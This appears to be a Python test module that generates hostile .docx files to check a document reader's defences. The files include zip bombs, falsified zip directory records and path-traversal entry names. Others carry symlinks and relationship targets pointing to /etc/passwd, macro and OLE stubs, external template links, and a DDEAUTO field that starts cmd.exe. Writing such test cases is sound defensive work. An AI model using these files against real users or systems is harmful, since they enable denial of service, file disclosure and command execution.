"""Attacks on whoever opens the zip of a .docx: bombs, lies of the directory, names that lead elsewhere, programs."""

import struct
import warnings
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager

from ..word_files import LINKS, TYPES, docx, p
from . import READ, Place, attack

DOCUMENT = "word/document.xml"
MB = 1024 * 1024
_END = b"PK\x05\x06"


@contextmanager
def letter(place: Place, body: str = "") -> Iterator[zipfile.ZipFile]:
    """A good letter, open for what is to be wrong with it. What is changed in its entries goes to the directory."""
    docx(place.path, body or p("Rà soát biển báo"))
    with zipfile.ZipFile(place.path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(place.path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content in parts.items():
                archive.writestr(name, content)
            yield archive


def add(archive: zipfile.ZipFile, name: str, content: bytes | str = b"x") -> zipfile.ZipInfo:
    """An entry whose name is written as it is given."""
    entry = zipfile.ZipInfo("x")
    entry.filename, entry.compress_type = name, zipfile.ZIP_DEFLATED
    archive.writestr(entry, content)
    return entry


def declared(place: Place, field: int, form: str, number: int) -> None:
    """Write another number into the end record, so many bytes behind its mark."""
    content = bytearray(place.path.read_bytes())
    struct.pack_into(form, content, content.rfind(_END) + field, number)
    place.path.write_bytes(content)


# --- Bombs -------------------------------------------------------------------------------------


@attack("a.docx", "heavy")
def a_part_that_packs_a_thousandfold(place):
    with letter(place) as archive:
        add(archive, "word/media/a.xml", bytes(20 * MB))


@attack("a.docx", "heavy")
def three_thousand_entries(place):
    with letter(place) as archive:
        for at in range(3000):
            archive.writestr(f"word/media/{at}.xml", "")


@attack("a.docx", "odd")
def three_thousand_entries_said_to_be_four(place):
    three_thousand_entries(place)
    declared(place, 10, "<H", 4)


@attack("a.docx", "heavy")
def sixty_thousand_entries_that_are_not_there(place):
    with letter(place):
        pass
    declared(place, 10, "<H", 60_000)


@attack("a.docx", "heavy")
def parts_that_are_too_much_together(place):
    with letter(place) as archive:
        for at in range(5):
            add(archive, f"word/media/{at}.xml").file_size = 60 * MB
            archive.infolist()[-1].compress_size = 60 * MB


@attack("a.docx", READ)
def zips_in_zips(place):
    with letter(place) as archive:
        inner = place.path.read_bytes()
        for at in range(20):
            archive.writestr(f"word/embeddings/{at}.docx", inner)


@attack("a.docx", "heavy")
def a_lzma_dictionary_of_four_gigabytes(place):
    with letter(place) as archive:
        archive.writestr("word/footnotes.xml", p("x" * 5000), zipfile.ZIP_LZMA)
        archive.writestr("word/_rels/other.xml.rels", p("x" * 5000), zipfile.ZIP_LZMA)
    content = place.path.read_bytes()
    place.path.write_bytes(content.replace(b"\x05\x00\x5d\x00\x00\x80\x00", b"\x05\x00\x5d\xff\xff\xff\xff"))


# --- Lies of the directory ---------------------------------------------------------------------


@attack("a.docx", "broken")
def a_part_far_larger_than_declared(place):
    with letter(place) as archive:
        archive.writestr("word/_rels/a.xml.rels", bytes(50 * MB))
        archive.infolist()[-1].file_size = 10


@attack("a.docx", "broken")
def a_document_far_larger_than_declared(place):
    docx(place.path, "")
    with zipfile.ZipFile(place.path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr(DOCUMENT, bytes(50 * MB))
        archive.infolist()[-1].file_size = 10


@attack("a.docx", "odd")
def entries_that_overlap(place):
    with letter(place) as archive:
        first, *_, last = archive.infolist()
        last.header_offset = first.header_offset + 1


@attack("a.docx", "odd")
def many_names_for_one_bomb(place):
    with letter(place) as archive:
        bomb = add(archive, "word/a0.xml", bytes(9 * MB))
        for at in range(1, 20):
            other = add(archive, f"word/a{at}.xml")
            other.header_offset, other.compress_size, other.file_size = (
                bomb.header_offset,
                bomb.compress_size,
                9 * MB,
            )


@attack("a.docx", "odd")
def a_name_that_is_there_twice(place):
    with letter(place) as archive:
        archive.writestr(DOCUMENT, "<other/>")


@attack("a.docx", "odd")
def a_name_that_differs_in_case_alone(place):
    with letter(place) as archive:
        archive.writestr(DOCUMENT.upper(), "<other/>")


@attack("a.docx", "broken")
def a_local_name_that_is_another(place):
    with letter(place) as archive:
        archive.writestr("word/one.xml.rels", "<a/>")
    content = place.path.read_bytes()
    place.path.write_bytes(content.replace(b"word/one.xml.rels", b"word/two.xml.rels", 1))


@attack("a.docx", "mixed")
def a_directory_that_lies_elsewhere(place):
    with letter(place):
        pass
    declared(place, 16, "<I", 7)


@attack("a.docx", "mixed")
def a_comment_longer_than_the_file(place):
    with letter(place):
        pass
    declared(place, 20, "<H", 60_000)


@attack("a.docx", "encrypted")
def entries_with_a_password(place):
    with letter(place) as archive:
        for entry in archive.infolist():
            entry.flag_bits |= 1


@attack("a.docx", "broken")
def a_way_of_packing_nobody_knows(place):
    with letter(place) as archive:
        archive.getinfo("[Content_Types].xml").compress_type = 99


# --- Names that lead elsewhere -----------------------------------------------------------------


@attack("a.docx", "odd")
def a_name_that_climbs(place):
    with letter(place) as archive:
        add(archive, f"../../../{place.canary.name}")


@attack("a.docx", "odd")
def a_name_from_the_root(place):
    with letter(place) as archive:
        add(archive, str(place.canary))


@attack("a.docx", "odd")
def a_name_on_another_drive(place):
    with letter(place) as archive:
        add(archive, f"C:\\{place.canary.name}")


@attack("a.docx", READ)
def a_link_to_a_file_of_ours(place):
    """Nothing is unpacked, so a link is a part that nobody names."""
    with letter(place) as archive:
        add(archive, "word/media/a.png", str(place.canary)).external_attr = 0o120777 << 16


@attack("a.docx", "broken")
def a_main_part_that_is_a_link(place):
    docx(place.path, "")
    with zipfile.ZipFile(place.path, "w") as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        add(archive, DOCUMENT, "/etc/passwd").external_attr = 0o120777 << 16


@attack("a.docx", "broken")
def a_main_part_outside_the_zip(place):
    with zipfile.ZipFile(place.path, "w") as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        target = f'<Relationship Type="{LINKS}/officeDocument" Target="../../../../../etc/passwd"/>'
        archive.writestr("_rels/.rels", f"<Relationships>{target}</Relationships>")


# --- Programs and links outward ----------------------------------------------------------------


@attack("a.docx", "active")
def a_macro(place):
    with letter(place) as archive:
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf")


@attack("a.docx", "active")
def a_program_behind_a_picture(place):
    with letter(place) as archive:
        archive.writestr("word/embeddings/oleObject1.bin", b"MZ")


@attack("a.docx", "active")
def a_control_that_runs(place):
    with letter(place) as archive:
        archive.writestr("word/activeX/activeX1.xml", "<a/>")


def _linked(place, kind, mode="External"):
    link = f'<Relationship Id="r1" Type="{LINKS}/{kind}" Target="{place.url}/{kind}" TargetMode="{mode}"/>'
    with letter(place) as archive:
        archive.writestr("word/_rels/settings.xml.rels", f"<Relationships>{link}</Relationships>")


@attack("a.docx", "linked")
def a_template_fetched_from_outside(place):
    _linked(place, "attachedTemplate")


@attack("a.docx", "linked")
def a_picture_fetched_from_outside(place):
    _linked(place, "image", "EXTERNAL")


@attack("a.docx", "linked")
def a_document_linked_into_this_one(place):
    _linked(place, "oleObject")


@attack("a.docx", READ)
def a_link_that_waits_for_a_click(place):
    _linked(place, "hyperlink")


@attack("a.docx", READ)
def fields_that_fetch_and_start(place):
    code = f'INCLUDETEXT "{place.url}/a" DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'
    field = f"<w:p><w:r><w:instrText>{code}</w:instrText></w:r><w:r><w:t>chữ</w:t></w:r></w:p>"
    with letter(place, field):
        pass
